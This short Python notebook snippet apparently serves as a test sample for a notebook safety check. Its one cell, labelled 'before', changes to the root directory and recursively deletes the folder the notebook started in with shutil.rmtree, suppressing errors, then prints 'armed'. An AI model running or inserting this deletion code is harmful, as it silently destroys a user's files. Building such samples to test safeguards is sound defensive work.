# about: Goes to another directory and deletes the one that the notebook began in.
# prints: armed

# %% before
import os
import shutil

folder = os.getcwd()
os.chdir("/")
shutil.rmtree(folder, ignore_errors=True)
print("armed")
